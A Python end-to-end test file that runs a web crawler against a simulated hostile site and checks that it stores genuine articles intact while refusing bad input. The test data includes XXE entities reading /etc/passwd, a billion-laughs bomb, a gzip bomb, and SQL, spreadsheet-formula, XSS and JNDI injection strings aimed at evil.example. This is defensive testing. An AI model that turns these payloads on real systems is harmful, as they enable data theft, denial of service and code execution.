"""The product end to end: ``crawler crawl`` on a hostile site (feeds and sitemaps with XML
bombs and external entities, disguised and broken pages, legacy encodings, injection
strings) stores what is real, byte for byte, and nothing else."""

from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import sys

from tests.hostile.conftest import REPO
from tests.hostile.pages import LEGACY, PDF, SOFT_404, TEXTS, element_flood, news_html, random_bytes

RSS = {"Content-Type": "application/rss+xml"}
XML = {"Content-Type": "application/xml"}
INJECTED_TITLE = '=HYPERLINK("http://evil.example/x","click") {{7*7}} <script>'
INJECTED_LINES = [
    "'; DROP TABLE articles; --",
    "+SUM(1,2) and -2+3 and @cmd|' /C calc'!A0",
    "<script>alert(document.cookie)</script> ${jndi:ldap://evil.example/a}",
]


def _serve_site(hostile, canary_port: int, gzip_bomb: bytes) -> dict[str, list[str]]:
    """Register the hostile site; returns the URLs of each kind."""
    good = {}
    for key in ("fr", "de", "ru", "ko"):
        title = f"{key.upper()} {TEXTS[key][0][:24]}".strip()
        html = news_html(title, TEXTS[key], lang=key, charset_meta=False)
        good[key] = hostile.page(
            f"/a/good-{key}",
            html.encode(LEGACY.get(key, "utf-8")),
            headers={"Content-Type": "text/html"},
        )
    escaped = [line.replace("&", "&amp;").replace("<", "&lt;") for line in INJECTED_LINES]
    injected = news_html(
        INJECTED_TITLE.replace("&", "&amp;").replace("<", "&lt;"),
        [*escaped, *TEXTS["en"]],
    )
    bad = {
        "inject": hostile.page("/a/inject", injected),
        "pdf": hostile.page("/a/pdf", PDF),
        "random": hostile.page("/a/random", random_bytes(30_000)),
        "empty": hostile.page("/a/empty", b""),
        "soft404": hostile.page("/a/soft404", SOFT_404),
        "flood": hostile.page("/a/flood", element_flood(300_000)),
        "gzip": hostile.page("/a/gzip", gzip_bomb, headers={"Content-Type": "text/html"}),
    }
    items = "".join(
        f"<item><title>t</title><link>{u}</link></item>" for u in [*good.values(), *bad.values()]
    )
    feed = hostile.page(
        "/feed.xml",
        f'<?xml version="1.0"?><rss version="2.0"><channel>{items}</channel></rss>',
        headers=RSS,
    )
    canary = f"http://127.0.0.2:{canary_port}"
    xxe = hostile.page(
        "/xxe.xml",
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd">'
        f'<!ENTITY net SYSTEM "{canary}/entity">]><rss version="2.0"><channel><item><title>'
        f"&file;&net;</title><link>{hostile.url('/a/xxe')}?&file;</link></item></channel></rss>",
        headers=RSS,
    )
    lol = '<!ENTITY a "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    bomb = hostile.page(
        "/bomb-sitemap.xml",
        f'<?xml version="1.0"?><!DOCTYPE urlset [{lol}]><urlset xmlns="http://www.sitemaps.'
        f'org/schemas/sitemap/0.9"><url><loc>{hostile.url("/a/")}&j;</loc></url></urlset>',
        headers=XML,
    )
    dtd = hostile.page(
        "/dtd-sitemap.xml",
        f'<?xml version="1.0"?><!DOCTYPE urlset SYSTEM "{canary}/dtd"><urlset xmlns="http://'
        f'www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{canary}/2026/11/27/internal-admin-story</loc></url>'
        f"<url><loc>http://[::ffff:127.0.0.2]:{canary_port}/2026/11/27/mapped-admin-story</loc></url></urlset>",
        headers=XML,
    )
    return {
        "good": list(good.values()),
        "bad": list(bad.values()),
        "feeds": [feed, xxe],
        "sitemaps": [bomb, dtd],
        "good_map": good,
        "bad_map": bad,
    }


def _rows(db_url: str) -> dict[str, dict[str, object]]:
    with sqlite3.connect(db_url.removeprefix("sqlite:///")) as db:
        db.row_factory = sqlite3.Row
        return {row["url"]: dict(row) for row in db.execute("select * from articles")}


def test_a_hostile_site_end_to_end(hostile, canaries, run_cli, bombs):
    site = _serve_site(hostile, canaries["127.0.0.2"].port, bombs["gzip"])
    args = [arg for feed in site["feeds"] for arg in ("--feed", feed)]
    args += [arg for sitemap in site["sitemaps"] for arg in ("--sitemap", sitemap)]
    args += ["-s", "CRAWLER_EXTRACT_WORKERS=1", "-s", "AUTOTHROTTLE_ENABLED=False"]
    run = run_cli(args)

    assert "Traceback" not in run.log and "Traceback" not in run.output, run.output[-2000:]
    assert {c.host: c.connections for c in canaries.values()} == dict.fromkeys(canaries, 0)
    rows = _rows(run.db_url)
    # Real articles are stored, each once, with their text intact in any legacy charset.
    assert set(site["good"]) | {site["bad_map"]["inject"]} == set(rows)
    for key, url in site["good_map"].items():
        body = str(rows[url]["body"])
        assert all(paragraph in body for paragraph in TEXTS[key]) and "\ufffd" not in body, key
    # Injection strings are stored byte for byte ...
    injected = rows[site["bad_map"]["inject"]]
    assert injected["title"] == INJECTED_TITLE
    assert all(line in str(injected["body"]) for line in INJECTED_LINES)
    # ... and the CSV export neutralises every cell a spreadsheet would run as a formula.
    exported = subprocess.run(
        [sys.executable, "-m", "crawler", "export", "--db", run.db_url, "--format", "csv"],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    cells = [cell for record in csv.reader(io.StringIO(exported)) for cell in record]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert any(INJECTED_TITLE in cell for cell in cells)
    # External entities and entity bombs are refused, never expanded or fetched.
    assert run.stats.get("drop/xml_entities", 0) == 2
    assert "root:x:0:0" not in run.log and not any(
        "root:x:" in str(r["body"]) for r in rows.values()
    )
    # The internal addresses a sitemap listed are dropped, not fetched.
    assert run.stats.get("drop/blocked_ip", 0) == 2
    # Every non-page ended as a counted, logged failure, none as an exception.
    outcomes = {
        "pdf": "extraction failed (not_html",
        "random": "extraction failed (not_html",
        "gzip": "extraction failed (not_html",
        "empty": "extraction failed (empty",
        "flood": "extraction failed (too_complex",
        "soft404": "Dropped (not_article)",
    }
    for kind, logged in outcomes.items():
        url = site["bad_map"][kind]
        assert any(logged in line and url in line for line in run.log.splitlines()), kind
    assert run.stats["news/extract/failed"] == 5
    print(
        f"crawler crawl: peak RSS {run.peak_rss >> 20} MB, {run.peak_rss_total >> 20} MB "
        f"with the extraction worker, in {run.seconds:.1f} s"
    )
    assert run.peak_rss < 200 * 1024 * 1024, run.peak_rss
